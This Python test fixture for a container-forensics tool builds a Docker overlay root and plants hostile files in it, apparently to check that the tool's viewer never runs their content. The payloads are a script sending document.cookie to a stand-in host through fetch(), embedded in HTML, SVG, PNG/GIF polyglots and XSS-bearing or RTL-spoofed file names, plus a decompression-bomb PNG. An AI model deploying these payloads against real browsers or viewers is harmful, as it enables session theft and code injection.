# SPDX-License-Identifier: Apache-2.0
"""Evidence whose files were written for the browser of whoever looks at them.

A folder with the root of a docker node (the stores of a real one, tests/data/runtime/node-docker.tar.zst)
in which a container has changed and added such files. Each would set `window.ran` or ask another host if
anything of it ran."""
import pathlib
import struct
import subprocess
import zlib

import ekshume

CONTAINER = "6f91804bf7239b84c75531715f19c742c743f0e6c0e1537cde31a775df1dcabd"
MOUNT = "b2d73471aedf4232165d50e657ad56e2a2538e0446afe348e8479589507b8930"
FOLDER = "/srv/drop"
SCRIPT = b"window.ran=1;fetch('http://evil.test/'+document.cookie)"
HTML = b"<!doctype html><html><body onload=\"" + SCRIPT + b"\"><script>" + SCRIPT + b"</script><img src=x onerror=\"" + SCRIPT + b"\"></body></html>\n"
SVG = b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"" + SCRIPT + b"\"><script>" + SCRIPT + b"</script><image href=\"http://evil.test/x.png\"/></svg>\n"
GIF = bytes.fromhex("47494638396101000100800000ff0000ffffff2c00000000010001000002024401003b")


def png(width=2, height=2, pixel=b"\xff\x00\x00", declared=None, extra=b""):
    """A PNG of one colour. `declared`: another width and height in its header. `extra`: whole chunks before the pixels."""
    def chunk(name, content):
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
    rows = b"".join(b"\0" + pixel * width for _ in range(height))
    text = chunk(b"tEXt", b"Comment\0" + extra) if extra else b""
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", *(declared or (width, height)), 8, 2, 0, 0, 0)) + text
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


# By name in FOLDER. Those in BEFORE had another content in the image.
FILES = {
    "x.html": HTML,
    "x.svg": SVG,
    "svg.png": SVG,
    "polyglot.png": png(extra=HTML) + HTML,
    "tail.gif": GIF + b"=1;" + SCRIPT + b"//" + HTML,
    "plain.png": png(),
    "bomb.png": png(declared=(100000, 100000)),
    "cut.png": png()[:40],
    "binary": bytes(range(256)) * 40,
    "lines.sh": b"".join(b"line %d\n" % i for i in range(60)) + HTML,
    "<img src=x onerror=window.ran=1>.html": HTML,
    "\u202egnp.exe": HTML,
    "a\"><script>window.ran=1<\\script>": SVG,
}
BEFORE = {
    "x.html": b"<html>harmless</html>\n",
    "plain.png": png(pixel=b"\x00\x00\xff"),
    "binary": bytes(range(256)) * 39 + bytes(256),
    "lines.sh": b"".join(b"line %d\n" % i for i in range(60) if i != 30).replace(b"line 10\n", b"old ten\n"),
}


def make():
    """The folder, once per test program."""
    root = pathlib.Path(ekshume.work_folder()) / "hostile-root"
    if root.exists():
        return root
    root.mkdir()
    archive = ekshume.ROOT / "tests/data/runtime/node-docker.tar.zst"
    packed = subprocess.run(["zstd", "-dc", archive], check=True, capture_output=True).stdout
    subprocess.run(["tar", "xf", "-", "-C", root, "--no-same-owner"], input=packed, check=True)
    (root / "usr/bin").mkdir(parents=True, exist_ok=True)
    store = root / "var/lib/docker/overlay2"
    lowest = (store / MOUNT / "lower").read_text().split(":")[-1]
    for layer, files in ((store / MOUNT / "diff", FILES), ((store / lowest).resolve(), BEFORE)):
        folder = layer / FOLDER.lstrip("/")
        folder.mkdir(parents=True)
        for name, content in files.items():
            (folder / name).write_bytes(content)
    return root
